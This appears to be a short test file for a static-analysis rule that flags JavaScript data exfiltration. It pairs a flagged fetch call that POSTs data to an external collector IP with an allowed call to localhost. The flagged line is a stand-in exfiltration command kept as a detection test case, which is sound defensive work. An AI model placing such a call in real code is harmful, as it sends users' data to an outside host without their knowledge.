// ruleid: exfiltration-to-collector-js
fetch("http://203.0.113.8/collect", { method: "POST", body: data });
// ok: exfiltration-to-collector-js
fetch("http://127.0.0.1:8000/collect", { method: "POST", body: data });
